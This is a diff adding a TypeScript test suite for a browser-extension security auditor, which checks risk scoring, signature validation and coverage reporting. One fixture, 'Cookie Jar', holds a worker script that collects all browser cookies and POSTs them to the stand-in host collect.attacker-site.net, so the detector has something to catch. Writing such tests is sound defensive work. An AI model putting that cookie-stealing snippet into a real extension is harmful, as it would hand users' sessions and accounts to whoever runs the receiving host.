@@ -1,0 +1,148 @@
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { dirname, join } from 'node:path';
+import { describe, it } from 'node:test';
+import { ZipWriter, TextReader, Uint8ArrayWriter } from '@zip.js/zip.js';
+import { audit, summarise, type AuditOptions } from './audit.ts';
+
+const options: AuditOptions = { analyzedAt: '2026-03-01T10:20:30.000Z' };
+
+describe('audit', () => {
+  it('gives the same report for the same contents, whatever the order of files', async () => {
+    const files = Object.entries(cookieThief);
+    const one = await audit(await zipOf(files), options);
+    const other = await audit(await zipOf(files.toReversed()), options);
+    const { package: _, ...report } = one.report;
+    const { package: __, ...otherReport } = other.report;
+    assert.deepEqual(JSON.parse(JSON.stringify(otherReport)), JSON.parse(JSON.stringify(report)));
+  });
+
+  it('shows what the code does with place and text, and calls it by its name', async () => {
+    const { report } = await audit(await zipOf(Object.entries(cookieThief)), options);
+    assert.notEqual(report.classification, 'clean');
+    const sent = report.findings.find(({ id }) => id === 'cookies-sent');
+    assert.equal(sent?.evidence[0]?.at?.file, 'worker.js');
+    assert.match(sent?.evidence[0]?.excerpt ?? '', /chrome\.cookies\.getAll/);
+    assert.deepEqual(
+      report.hosts.filter(({ sends_data }) => sends_data).map(({ host }) => host),
+      ['collect.attacker-site.net'],
+    );
+  });
+
+  it('adds up, and says where the classification comes from', async () => {
+    const { report } = await audit(await zipOf(Object.entries(cookieThief)), options);
+    const sum = report.contributions.reduce((total, { points }) => total + points, 0);
+    assert.equal(sum, report.risk_score);
+    assert.ok(report.improvements.length > 0);
+  });
+
+  it('passes on what the caller knows of the publisher and the time', async () => {
+    const publisher = {
+      riskLevel: 'high',
+      isVerified: true,
+      totalExtensions: 17,
+      hasMaliciousHistory: true,
+    } as const;
+    const { report } = await audit(await zipOf(Object.entries(harmless)), {
+      ...options,
+      publisher,
+    });
+    assert.equal(report.analyzed_at, options.analyzedAt);
+    assert.deepEqual(report.publisher_analysis, {
+      publisher_risk_level: 'high',
+      is_verified: true,
+      total_extensions: 17,
+      malicious_history: true,
+    });
+  });
+
+  it('calls a harmless extension clean, with complete coverage', async () => {
+    const { report } = await audit(await zipOf(Object.entries(harmless)), options);
+    assert.equal(report.classification, 'clean');
+    assert.deepEqual(report.coverage, { complete: true, skipped: [] });
+    assert.equal(report.risk_level, 'low');
+  });
+
+  it('is incomplete where a file was skipped, with the reason', async () => {
+    const skippedFiles = new Map([['worker.js', 'it brought the process down']]);
+    const { report } = await audit(await zipOf(Object.entries(harmless)), {
+      ...options,
+      skippedFiles,
+    });
+    assert.equal(report.classification, 'incomplete');
+    assert.ok(report.coverage.skipped.some(({ what }) => what === 'worker.js'));
+  });
+
+  it('is never clean when a byte of a signed package was flipped', async () => {
+    const bytes = new Uint8Array(readFileSync(storePackage));
+    const position = bytes.length - 5_000;
+    bytes[position] = bytes[position]! ^ 1;
+    const { report } = await audit({ kind: 'bytes', bytes, name: 'flipped.crx' }, options);
+    assert.equal(report.signature.status, 'invalid');
+    assert.notEqual(report.classification, 'clean');
+  });
+
+  it('rejects what is no package', async () => {
+    const bytes = new TextEncoder().encode('This is no package.');
+    await assert.rejects(audit({ kind: 'bytes', bytes, name: 'notes.txt' }, options), {
+      name: 'PackageError',
+    });
+  });
+
+  it('keeps a devtools extension of the store out of malicious and critical', async () => {
+    const { report } = await audit({ kind: 'file', path: storePackage }, options);
+    assert.equal(report.signature.signer, 'chrome-web-store');
+    assert.notEqual(report.classification, 'malicious');
+    assert.notEqual(report.risk_level, 'critical');
+  });
+});
+
+describe('summarise', () => {
+  it('says what the catalogue keeps', async () => {
+    const summary = await summarise(await zipOf(Object.entries(cookieThief)));
+    assert.equal(summary.name, 'Cookie Jar');
+    assert.equal(summary.version, '6.7.8');
+    assert.equal(summary.format, 'zip');
+    assert.deepEqual(summary.permissions, ['<all_urls>', 'cookies']);
+    assert.equal(new TextDecoder().decode(summary.manifestRaw), cookieThief['manifest.json']);
+  });
+});
+
+const storePackage = join(
+  dirname(createRequire(import.meta.url).resolve('@tomjs/electron-devtools-files/package.json')),
+  'extensions',
+  'fmkadmapgofadopljbjfkapdkoienihi.crx',
+);
+
+const cookieThief: Readonly<Record<string, string>> = {
+  'manifest.json': JSON.stringify({
+    manifest_version: 3,
+    name: 'Cookie Jar',
+    version: '6.7.8',
+    permissions: ['cookies'],
+    host_permissions: ['<all_urls>'],
+    background: { service_worker: 'worker.js' },
+  }),
+  'worker.js': `chrome.cookies.getAll({}, (cookies) => {
+  fetch('https://collect.attacker-site.net/in', { method: 'POST', body: JSON.stringify(cookies) });
+});
+`,
+  'unused.js': 'console.log("nobody runs this");',
+};
+
+const harmless: Readonly<Record<string, string>> = {
+  'manifest.json': JSON.stringify({
+    manifest_version: 3,
+    name: 'Plain',
+    version: '1.2.3',
+    background: { service_worker: 'worker.js' },
+  }),
+  'worker.js': 'console.log("ready");',
+};
+
+async function zipOf(files: readonly (readonly [string, string])[]) {
+  const writer = new ZipWriter(new Uint8ArrayWriter());
+  for (const [name, text] of files) await writer.add(name, new TextReader(text));
+  return { kind: 'bytes', bytes: await writer.close(), name: 'sample.zip' } as const;
+}
